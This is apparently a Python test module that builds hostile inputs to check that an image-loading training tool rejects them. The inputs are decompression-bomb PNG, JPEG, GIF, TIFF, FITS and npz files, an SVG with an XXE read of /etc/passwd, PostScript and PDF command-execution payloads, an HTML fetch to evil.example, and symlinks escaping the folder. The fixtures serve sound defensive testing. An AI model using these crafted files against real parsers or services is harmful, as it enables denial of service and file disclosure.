"""Images that unpack to far more than they are, that are something else, and links that lead out of a folder."""

from __future__ import annotations

import gzip
import os
import struct
import zlib
from collections.abc import Callable
from pathlib import Path

import numpy as np
from attacks import FIT, SECRET, Scene, attack
from PIL import Image

PHOTOS = (*FIT, "photos", "--space", "toy")  # which refuses any photograph, once all are read


def folder(scene: Scene) -> Path:
    """Two classes of eight small images."""
    colours = np.random.default_rng(0).integers(0, 256, (2, 8, 16, 16, 3), np.uint8)
    for name, images in zip(("cat", "dog"), colours, strict=True):
        (scene.at / "photos" / name).mkdir(parents=True)
        for number, pixels in enumerate(images):
            Image.fromarray(pixels).save(scene.at / "photos" / name / f"{number}.png")
    return scene.at / "photos" / "cat"


def chunk(kind: bytes, content: bytes) -> bytes:
    return struct.pack(">I", len(content)) + kind + content + struct.pack(">I", zlib.crc32(kind + content))


def png(width: int, height: int, kind: int, *chunks: bytes, depth: int = 8) -> bytes:
    header = struct.pack(">IIBBBBB", width, height, depth, kind, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + b"".join(chunks) + chunk(b"IEND", b"")


def deflated(size: int) -> bytes:
    """So many zeros as zlib packs them, out of one packed piece that is repeated."""
    packer = zlib.compressobj(9, wbits=-15)
    piece, count = packer.compress(bytes(2**20)) + packer.flush(zlib.Z_FULL_FLUSH), -(-size // 2**20)
    return b"\x78\xda" + piece * count + b"\x03\0" + struct.pack(">HH", count * 2**20 % 65521, 1)


def image(name: str, content: Callable[[], bytes], words: str = "image 'cat/evil", more: tuple[str, ...] = ()) -> None:
    """An attack by one image among good ones."""

    def build(scene: Scene) -> None:
        (folder(scene) / name).write_bytes(content())

    build.__name__ = f"an_image_{content.__name__}"
    attack(*PHOTOS, *more, words=words)(build)


def of_ten_billion_pixels() -> bytes:
    return png(100_000, 100_000, 2, chunk(b"IDAT", deflated(2**20)))


def of_eighty_million_pixels_in_one_colour() -> bytes:
    return png(8944, 8944, 6, chunk(b"IDAT", deflated(8944 * (4 * 8944 + 1) + 2**20)))


def with_a_palette_that_unpacks_twice() -> bytes:
    colours = chunk(b"PLTE", bytes(768)) + chunk(b"tRNS", bytes(256))
    return png(9400, 9400, 3, colours, chunk(b"IDAT", deflated(9400 * 9401 + 2**20)))


def with_a_text_of_a_gigabyte() -> bytes:
    return png(16, 16, 0, chunk(b"zTXt", b"a\0\0" + deflated(2**30)), chunk(b"IDAT", zlib.compress(bytes(272))))


def with_a_profile_of_a_gigabyte() -> bytes:
    return png(16, 16, 0, chunk(b"iCCP", b"a\0\0" + deflated(2**30)), chunk(b"IDAT", zlib.compress(bytes(100))))


def with_an_international_text_of_a_gigabyte() -> bytes:
    text = b"a\0\1\0\0\0" + deflated(2**30)
    return png(16, 16, 0, chunk(b"iTXt", text), chunk(b"IDAT", zlib.compress(bytes(272))))


def of_a_hundred_thousand_scans() -> bytes:
    """A progressive JPEG: every scan of a few bytes passes over all of its pixels again."""
    side = 7000
    tables = b"".join(
        b"\xff\xc4" + struct.pack(">HB", 2 + 1 + 16 + 1, kind) + bytes([1] + [0] * 15) + bytes([value])
        for kind, value in ((0x00, 0), (0x10, 0xE0))
    )
    quantised = b"\xff\xdb" + struct.pack(">HB", 67, 0) + bytes([1] * 64)
    frame = b"\xff\xc2" + struct.pack(">HBHHB", 11, 8, side, side, 1) + bytes([1, 0x11, 0])
    blocks = ((side + 7) // 8) ** 2
    first = b"\xff\xda" + bytes([0, 8, 1, 1, 0x00, 0, 0, 0]) + bytes((blocks + 7) // 8)
    runs = bytes(2 * (blocks // 2**14 + 1))
    scans = (b"\xff\xda" + bytes([0, 8, 1, 1, 0x00, 1, 63, 0]) + runs) * 5000
    return b"\xff\xd8" + quantised + tables + frame + first + scans + b"\xff\xd9"


def of_stars_that_unpack() -> bytes:
    cards = {
        "SIMPLE": "T", "BITPIX": "8", "NAXIS": "0", "EXTEND": "T",
    }  # fmt: skip
    extension = {
        "XTENSION": "'BINTABLE'", "BITPIX": "8", "NAXIS": "2", "NAXIS1": "8", "NAXIS2": "1", "ZBITPIX": "8",
        "ZIMAGE": "T", "ZNAXIS": "2", "ZNAXIS1": "64", "ZNAXIS2": "64", "ZCMPTYPE": "'GZIP_1  '",
    }  # fmt: skip
    blocks = b""
    for listed in (cards, extension):
        text = "".join(f"{key:<8}= {value:>20}".ljust(80) for key, value in listed.items()) + "END".ljust(80)
        blocks += text.ljust(-(-len(text) // 2880) * 2880).encode()
    return blocks + bytes(8) + gzip.compress(bytes(2**26), 1)


def of_many_frames() -> bytes:
    frame = b"\x21\xf9\x04\0\0\0\0\0" + b"\x2c" + struct.pack("<HHHHB", 0, 0, 9400, 9400, 0) + b"\x02\x02\x44\x01\0"
    head = b"GIF89a" + struct.pack("<HHBBB", 65_000, 65_000, 0xF0, 0, 0) + bytes(6)
    return head + frame * 20_000 + b"\x3b"


def tiff(*entries: tuple[int, int, int, int], behind: bytes = b"") -> bytes:
    """Tags of (number, type, count, value)."""
    listed = b"".join(struct.pack("<HHII", *entry) for entry in sorted(entries))
    return b"II*\0" + struct.pack("<IH", 8, len(entries)) + listed + struct.pack("<I", 8) + behind


def with_strips_that_lie() -> bytes:
    return tiff((256, 4, 1, 64), (257, 4, 1, 64), (258, 3, 1, 8), (259, 3, 1, 1), (262, 3, 1, 1), (273, 4, 1, 2**31),
                (277, 3, 1, 1), (278, 4, 1, 64), (279, 4, 1, 2**32 - 1))  # fmt: skip


def with_a_tag_of_four_gigabytes() -> bytes:
    return tiff((256, 4, 1, 64), (257, 4, 1, 64), (258, 3, 2**31 - 1, 8), (259, 3, 1, 8), (262, 3, 1, 1),
                (273, 4, 2**31 - 1, 8), (279, 4, 2**31 - 1, 8), (34675, 7, 2**32 - 1, 8))  # fmt: skip


def with_a_tile_of_the_whole_world() -> bytes:
    return tiff((256, 4, 1, 64), (257, 4, 1, 64), (258, 3, 1, 8), (259, 3, 1, 8), (262, 3, 1, 1), (277, 3, 1, 1),
                (322, 4, 1, 2**20), (323, 4, 1, 2**20), (324, 4, 1, 8), (325, 4, 1, 100))  # fmt: skip


def that_is_an_icon_of_another_size() -> bytes:
    inner = png(9400, 9400, 6, chunk(b"IDAT", deflated(9400 * (4 * 9400 + 1) + 2**20)))
    return b"\0\0\1\0\1\0" + struct.pack("<BBBBHHII", 16, 16, 0, 0, 1, 32, len(inner), 22) + inner


def of_columns_without_end() -> bytes:
    return b"P6\n" + b"#" * 10**6 + b"9" * 10**6


def that_is_drawn() -> bytes:
    return (f"<?xml version='1.0'?><!DOCTYPE svg [<!ENTITY a SYSTEM 'file:///etc/passwd'>]><svg xmlns="
            f"'http://www.w3.org/2000/svg'><script>{SECRET}</script><text>&a;</text></svg>").encode()  # fmt: skip


def that_is_a_program() -> bytes:
    return b"%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 16 16\n(%pipe%touch fired) (w) file closefile\nshowpage\n"


def that_is_a_document() -> bytes:
    return b"%PDF-1.7\n1 0 obj <</Type/Catalog/OpenAction<</S/Launch/F(touch fired)>>>> endobj\ntrailer <</Root 1 0 R>>"


def that_is_a_page() -> bytes:
    return b"<html><script>fetch('http://evil.example/')</script></html>"


for _content in (
    of_ten_billion_pixels, of_eighty_million_pixels_in_one_colour, with_a_palette_that_unpacks_twice,
    with_a_text_of_a_gigabyte, with_an_international_text_of_a_gigabyte, with_a_profile_of_a_gigabyte,
    that_is_drawn, that_is_a_program, that_is_a_document, that_is_a_page,
):  # fmt: skip
    image("evil.png", _content)
image("evil.jpg", of_a_hundred_thousand_scans)
image("evil.gif", of_many_frames)
for _content in (with_strips_that_lie, with_a_tag_of_four_gigabytes, with_a_tile_of_the_whole_world):
    image("evil.tif", _content)
image("evil.ppm", of_columns_without_end)
image("evil.png", that_is_an_icon_of_another_size)
image("evil.png", of_stars_that_unpack)


@attack(*PHOTOS, words="cat/evil.png is a link that leaves the folder")
def a_link_to_a_file_outside(scene: Scene) -> None:
    (folder(scene) / "evil.png").symlink_to(scene.outside / "secret.txt")


@attack(*PHOTOS, words="is a link that leaves the folder")
def a_link_to_a_folder_outside(scene: Scene) -> None:
    (folder(scene).parent / "evil").symlink_to(scene.outside)


@attack(*PHOTOS, words="cat/evil.png is a link that leaves the folder")
def a_link_to_endless_zeros(scene: Scene) -> None:
    (folder(scene) / "evil.png").symlink_to("/dev/zero")


@attack(*PHOTOS, words="cat/evil.png is a link that leads to no file")
def a_link_to_a_pipe(scene: Scene) -> None:
    os.mkfifo(folder(scene).parent / ".pipe")
    (scene.at / "photos" / "cat" / "evil.png").symlink_to("../.pipe")


@attack(*PHOTOS, words="is a link that leads to no file")
def a_link_to_itself(scene: Scene) -> None:
    place = folder(scene)
    (place / "evil.png").symlink_to("evil.png")
    (place / "loop").symlink_to(".")


@attack(*PHOTOS, words="space 'toy' works on")
def a_pipe_among_images(scene: Scene) -> None:
    """It is no image, and nobody waits for it."""
    os.mkfifo(folder(scene) / "evil.png")


@attack(*PHOTOS, words="deep")
def folders_in_folders_without_end(scene: Scene) -> None:
    here = os.getcwd()
    os.chdir(folder(scene))
    try:
        for _ in range(200):
            os.mkdir("d")
            os.chdir("d")
    finally:
        os.chdir(here)


@attack(*FIT, "evil.npz", "--space", "toy", words="image 0 of train")
def bombs_in_a_pack(scene: Scene) -> None:
    content = of_eighty_million_pixels_in_one_colour()
    joined = np.frombuffer(content * 4, np.uint8)
    offsets = np.arange(5) * len(content)
    np.savez(scene.at / "evil.npz", train_jpeg=joined, train_offset=offsets, train_label=np.arange(4) % 2)


@attack(*FIT, "/dev/stdin", words="/dev/stdin")
def data_from_standard_input(scene: Scene) -> None:
    pass
